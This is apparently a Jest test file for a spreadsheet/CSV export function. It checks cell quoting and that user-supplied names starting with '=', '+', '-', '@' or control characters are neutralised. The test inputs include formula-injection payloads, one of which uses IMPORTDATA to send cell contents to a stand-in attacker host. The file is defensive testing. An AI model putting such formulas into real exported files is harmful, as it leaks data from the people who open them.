import { expect, test } from '@jest/globals'
import { fileLines } from './spreadsheet-file'

test('cells keep their commas, quotes and lines', () => {
  expect(fileLines([['สมชาย, ใจดี', 'พูดว่า "มาได้"', 'หนึ่ง\nสอง']])).toBe(
    '"สมชาย, ใจดี","พูดว่า ""มาได้""","หนึ่ง\nสอง"\r\n',
  )
})

test.each([
  '=HYPERLINK("https://evil.example")',
  '+66812345678',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=1\n1',
  '=IMPORTDATA("//evil.example?"&B2)\n&""',
  '＝1+1',
])('what somebody called themselves never becomes a formula: %j', (name) => {
  const [cell] = fileLines([[name, 'x']]).split(',x')
  expect(cell).toMatch(/^"?'/)
})
